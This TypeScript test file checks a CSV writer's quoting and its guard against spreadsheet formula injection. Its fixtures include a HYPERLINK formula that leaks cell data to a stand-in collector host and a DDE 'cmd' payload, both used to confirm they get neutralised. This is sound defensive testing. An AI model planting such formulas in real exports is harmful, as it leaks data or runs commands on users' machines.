import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'

import { byteOrderMark, csvLine, excelLine } from './csv-line.ts'

/** Reads a line as RFC 4180 says, knowing nothing of how it was written. */
function cellsOf(line: string): string[] {
  const cells: string[] = []
  let rest = line
  for (;;) {
    const [all, quoted, plain = '', end] = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(rest) ?? []
    if (all === undefined) throw new Error(`Not a line: ${rest}`)
    cells.push(quoted?.replaceAll('""', '"') ?? plain)
    rest = rest.slice(all.length)
    if (end !== ',') break
  }
  expect(rest).toBe('')
  return cells
}

describe('a line', () => {
  test('ends as RFC 4180 says, and plain cells stay as they are', () => {
    expect(csvLine(['Asha Rao', '', 'asha@example.com', '2026-11-21 09:30'])).toBe(
      'Asha Rao,,asha@example.com,2026-11-21 09:30\r\n',
    )
  })

  test.each([
    ['a comma', 'Rao, Asha'],
    ['quotes', 'the "tall" mug'],
    ['nothing but quotes', '""'],
    ['lines', 'one\ntwo\r\nthree'],
    ['a semicolon, which divides cells elsewhere', 'Mug; Pen'],
    ['a tab inside', 'Mug\tPen'],
    ['blanks at its edges', ' x '],
    ['letters of other scripts', 'ಆಶಾ ÜNÏ 漢字 🎁'],
    ['an apostrophe', "'tis"],
    ['signs that are not at the beginning', 'a=b+c-d@e'],
    ['a letter beyond the basic plane', '𝔊ift'],
  ])('gives back a cell with %s', (_what, text) => {
    expect(cellsOf(csvLine(['before', text, 'after']))).toEqual(['before', text, 'after'])
  })

  test.each(['Mug; Pen', 'Mug\tPen', ' x'])('quotes %j, which some programs would divide or trim', (text) => {
    expect(csvLine([text])).toBe(`"${text}"\r\n`)
  })
})

describe('a cell that a spreadsheet would calculate', () => {
  const sheetsWouldRun = '=HYPERLINK("https://collector.example/?"&A1,"Prices")'

  test.each([
    sheetsWouldRun,
    '=1+1',
    '+91 98',
    '+A1',
    '+9876543210+1',
    '-9876543210',
    '+98765432*10',
    '-2+3',
    '@SUM(A1:A9)',
    "=cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\tplain',
    '\rplain',
    ' =1+1',
    '\u00A0=1+1',
    '\u200B=1+1',
    '\uFEFF=1+1',
    '＝1+1',
    '＋91',
    '－1',
    '＠SUM(A1)',
    '=',
    '-',
  ])('begins with an apostrophe: %j', (text) => {
    expect(cellsOf(csvLine(['before', text, 'after']))).toEqual(['before', `'${text}`, 'after'])
  })
})

describe('a telephone number', () => {
  test.each(['+919876543210', '+91 98765 43210', '+91 98765-43210', '+1 (800) 555-1234', '+91.98765.43210'])(
    'stays as it is: %s',
    (phone) => {
      expect(csvLine([phone])).toBe(`${phone}\r\n`)
    },
  )

  test('that a spreadsheet would take for a sum has blanks between its parts', () => {
    expect(csvLine(['+91-98765-43210'])).toBe('+91 98765 43210\r\n')
  })

  test('is never calculated, however it is written', () => {
    const phones = fc.string({ unit: fc.constantFrom(...Array.from('+-(). 0123456789')), maxLength: 16 })
    fc.assert(
      fc.property(phones, (text) => {
        const [cell = ''] = cellsOf(csvLine([text]))
        expect(operandsOf(cell)).toBeLessThanOrEqual(1)
      }),
      { numRuns: 2000, examples: [['+91-98765-43210'], ['+(91)-98765-43210'], ['+91 - 98765 - 43210']] },
    )
  })
})

/** With how many numbers a spreadsheet calculates in a cell; 0 where it shows the text. */
function operandsOf(cell: string): number {
  if (!/^\s*[=+\-@]/.test(cell)) return 0
  const tokens = cell.match(/\d+(?:\.\d*)?|\.\d+|[-+().]/g) ?? []
  let operands = 0
  function isOperand(): boolean {
    while (tokens[0] === '+' || tokens[0] === '-') tokens.shift()
    const token = tokens.shift() ?? ''
    if (token === '(') return isSum() && tokens.shift() === ')'
    operands += 1
    return /\d/.test(token)
  }
  function isSum(): boolean {
    if (!isOperand()) return false
    return tokens[0] === '+' || tokens[0] === '-' ? isSum() : true
  }
  return isSum() && tokens.length === 0 ? operands : 0
}

test('the file starts with the UTF-8 byte order mark', () => {
  expect([...new TextEncoder().encode(byteOrderMark)]).toEqual([0xef, 0xbb, 0xbf])
})

test.each(['00123', '8901234567890', '1E5', '1-2', '+919876543210', '098765-43210', '12.50'])(
  'Excel shows %s as it is in a CSV for Excel',
  (text) => {
    expect(cellsOf(excelLine([text]))).toEqual([`="${text}"`])
  },
)

test.each(['123', '12.5', '2026-11-21 09:30', 'Mug', '', 'A-1', '1,2'])(
  '%j needs no formula for Excel',
  (text) => {
    expect(cellsOf(excelLine([text]))).toEqual([text])
  },
)

test('formulas are guarded in a CSV for Excel', () => {
  expect(cellsOf(excelLine(['=1+1', '+1+1="x"']))).toEqual(["'=1+1", `'+1+1="x"`])
})
